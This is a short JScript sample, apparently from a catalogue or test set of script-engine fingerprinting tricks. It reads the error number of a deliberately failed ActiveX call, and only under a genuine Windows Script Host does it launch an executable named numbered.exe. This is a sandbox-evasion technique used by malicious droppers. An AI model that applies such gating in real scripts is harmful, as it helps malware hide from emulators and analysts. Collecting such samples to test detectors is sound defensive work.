// persona: wsh
// reaches: process numbered.exe
// names: engine-fingerprinting
// trick: takes its key from the number of an error, which only JScript's have
var number = 0;
try { new ActiveXObject("No.SuchThing"); } catch (error) { number = error.number & 0xffff; }
if (number === 429) new ActiveXObject("WScript.Shell").Run("numbered.exe");
